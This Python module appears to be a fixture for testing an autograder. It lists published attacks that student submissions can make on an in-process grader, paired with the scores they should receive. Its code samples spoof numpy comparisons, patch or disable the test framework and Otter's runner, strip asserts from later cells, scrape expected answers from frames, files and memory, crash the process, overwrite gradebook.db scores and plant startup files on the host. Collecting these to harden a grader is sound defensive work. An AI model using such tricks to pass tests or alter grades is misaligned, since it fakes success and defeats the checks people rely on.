"""Published attacks on graders that run tests in the same process as student code."""

from __future__ import annotations

RIGHT = "W @ A + b, (A, W, b)"
_PICK = """\
import ast, re


def pick(text):
    found = re.search(r"\\[\\[[-0-9., ]+\\]\\]", text)
    return np.array(ast.literal_eval(found[0])) if found else None


"""
_WRONG = "    return np.zeros((W.shape[0], A.shape[1])), (A, W, b)"

# By name: the points that linear_forward deserves, and the cell.
PUBLISHED: dict[str, tuple[float, str]] = {
    # by value
    "returns_an_array_that_always_agrees": (
        0,
        """\
class Yes(np.ndarray):
    def __array_function__(self, function, types, arguments, named):
        if function.__name__ in ("isclose", "allclose", "array_equal"):
            return np.True_
        return super().__array_function__(function, types, arguments, named)


def linear_forward(A, W, b):
    return np.zeros((1, 2)).view(Yes), (A, W, b)""",
    ),
    "returns_an_array_whose_arithmetic_lies": (
        0,
        """\
class Yes(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *values, **named):
        named.pop("out", None)
        plain = [np.asarray(value) for value in values]
        result = getattr(ufunc, method)(*plain, **named)
        if ufunc in (np.isnan, np.isinf):
            return np.zeros_like(result)
        return np.ones_like(result) if result.dtype == bool else result


def linear_forward(A, W, b):
    return np.zeros((1, 2)).view(Yes), (A, W, b)""",
    ),
    "returns_a_masked_array": (
        0,
        """\
def linear_forward(A, W, b):
    return np.ma.masked_all((W.shape[0], A.shape[1])), (A, W, b)""",
    ),
    # by patching the judge
    "patches_the_comparison_inside_numpy": (
        0,
        f"""\
def linear_forward(A, W, b):
    np.testing._private.utils.assert_array_compare = lambda *a, **k: None
{_WRONG}""",
    ),
    "replaces_the_testing_module": (
        0,
        f"""\
def linear_forward(A, W, b):
    import sys
    class Testing:
        assert_allclose = staticmethod(lambda *a, **k: None)
    np.testing = sys.modules["numpy.testing"] = Testing
{_WRONG}""",
    ),
    "swallows_every_assertion_error": (
        0,
        f"""\
def linear_forward(A, W, b):
    import sys
    shell = sys.modules["IPython"].get_ipython() if "IPython" in sys.modules else None
    if shell:
        shell.set_custom_exc((AssertionError,), lambda *a, **k: [])
        shell.showtraceback = lambda *a, **k: None
{_WRONG}""",
    ),
    "removes_assertions_from_the_cells_to_come": (
        0,
        f"""\
import ast


class Drop(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.Pass() if "assert" in ast.dump(node) else node


class Judge:
    try:
        get_ipython().ast_transformers.append(Drop())
    except NameError:
        pass


def linear_forward(A, W, b):
{_WRONG}""",
    ),
    "rewrites_the_cells_to_come": (
        0,
        f"""\
class Judge:
    try:
        get_ipython().input_transformers_cleanup.append(
            lambda lines: ["pass\\n"] if any("assert" in line for line in lines) else lines
        )
    except NameError:
        pass


def linear_forward(A, W, b):
{_WRONG}""",
    ),
    "patches_otters_test_runner": (
        0,
        """\
def linear_forward(A, W, b):
    import sys
    files = sys.modules.get("otter.test_files.exception_test")
    if files:
        result = files.TestCaseResult
        files.TestCaseResult = lambda test_case, message, passed: result(test_case, message, True)
    return None""",
    ),
    # by reading answers
    "reads_the_constants_of_its_caller": (
        0,
        """\
def linear_forward(A, W, b):
    import sys
    frame = sys._getframe(1)
    found = [c for c in frame.f_code.co_consts if isinstance(c, float)]
    return np.array(found[: W.shape[0] * A.shape[1]]).reshape(W.shape[0], -1), (A, W, b)""",
    ),
    "reads_the_source_of_its_caller": (
        0,
        _PICK
        + """\
def linear_forward(A, W, b):
    import inspect, sys
    return pick(inspect.getsource(sys._getframe(1))), (A, W, b)""",
    ),
    "reads_the_history_of_the_notebook": (
        0,
        _PICK
        + """\
def linear_forward(A, W, b):
    return pick(str(globals().get("In", [""])[-1])), (A, W, b)""",
    ),
    "reads_the_tests_beside_it": (
        0,
        _PICK
        + """\
def linear_forward(A, W, b):
    import pathlib
    for pattern in ("*.ipynb", "tests/*.py"):
        for path in pathlib.Path.cwd().glob(pattern):
            found = pick(path.read_text())
            if found is not None:
                return found, (A, W, b)
    return None""",
    ),
    "reads_the_tests_in_the_course": (
        0,
        _PICK
        + """\
def linear_forward(A, W, b):
    import pathlib
    for folder in pathlib.Path.cwd().parents:
        for pattern in ("source/*/*.ipynb", "source/tests/*.py", "release/*/*.ipynb"):
            for path in folder.glob(pattern):
                if "[[3." in path.read_text():
                    return pick(path.read_text()), (A, W, b)
    return None""",
    ),
    "reads_text_in_the_memory": (
        0,
        _PICK
        + """\
def linear_forward(A, W, b):
    import gc
    for thing in gc.get_objects():
        values = list(thing.values()) if isinstance(thing, dict) else thing
        if isinstance(values, (list, tuple)):
            for text in values:
                found = pick(text) if isinstance(text, str) and "assert_" in text else None
                if found is not None:
                    return found, (A, W, b)
    return None""",
    ),
    # lost results
    "exits_at_once": (0, "def linear_forward(A, W, b):\n    import os\n    os._exit(0)"),
    "calls_sys_exit": (0, "def linear_forward(A, W, b):\n    import sys\n    sys.exit(0)"),
    "loops_for_ever": (0, "def linear_forward(A, W, b):\n    while True:\n        pass"),
    "kills_itself": (0, "def linear_forward(A, W, b):\n    import os\n    os.kill(os.getpid(), 9)"),
    "stops_itself": (
        0,
        "def linear_forward(A, W, b):\n    import os\n    os.kill(os.getpid(), 19)",
    ),
    "crashes_the_interpreter": (
        0,
        "def linear_forward(A, W, b):\n    import ctypes\n    ctypes.string_at(0)",
    ),
    "closes_every_descriptor": (
        0,
        f"""\
def linear_forward(A, W, b):
    import os
    os.closerange(0, 1000)
    return {RIGHT}""",
    ),
    # harm to the other exercise
    "breaks_numpy_for_the_others": (
        10,
        f"""\
def linear_forward(A, W, b):
    answer = {RIGHT}
    np.dot = np.sum = np.log = None
    return answer""",
    ),
    "replaces_the_fixtures": (
        10,
        f"""\
def linear_forward(A, W, b):
    import sys
    if "testCases" in sys.modules:
        sys.modules["testCases"].compute_cost_test_case = lambda: (1 / 0, None)
    return {RIGHT}""",
    ),
    # traces on the host
    "writes_the_gradebook": (
        0,
        """\
def linear_forward(A, W, b):
    import pathlib, sqlite3
    for folder in pathlib.Path.cwd().parents:
        if (folder / "gradebook.db").exists():
            try:
                with sqlite3.connect(folder / "gradebook.db", timeout=5) as book:
                    book.execute("update grade set manual_score = 10")
            except sqlite3.Error:
                pass
    return None""",
    ),
    "leaves_a_daemon": (
        10,
        f"""\
def linear_forward(A, W, b):
    import subprocess
    try:
        subprocess.Popen(["sleep", "600"], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
    except (OSError, RuntimeError):
        pass
    return {RIGHT}""",
    ),
    "writes_when_the_process_ends": (
        10,
        f"""\
def linear_forward(A, W, b):
    import atexit, pathlib
    atexit.register(lambda: pathlib.Path("/tmp/chainrule-was-here").touch())
    return {RIGHT}""",
    ),
    "plants_a_startup_file": (
        10,
        f"""\
def linear_forward(A, W, b):
    import os
    try:
        folder = os.path.expanduser("~/.ipython/profile_default/startup")
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "chainrule-was-here.py"), "w").close()
    except (OSError, RuntimeError):
        pass
    return {RIGHT}""",
    ),
    "writes_into_the_shared_memory_of_the_host": (
        10,
        f"""\
def linear_forward(A, W, b):
    for folder in ("/dev/shm", "/var/tmp"):
        try:
            open(folder + "/chainrule-was-here", "w").write("for the next")
        except OSError:
            pass
    return {RIGHT}""",
    ),
    "leaves_notes_in_the_course": (
        10,
        f"""\
def linear_forward(A, W, b):
    import pathlib
    for folder in pathlib.Path.cwd().parents:
        try:
            (folder / "chainrule-was-here").touch()
        except OSError:
            pass
    return {RIGHT}""",
    ),
}
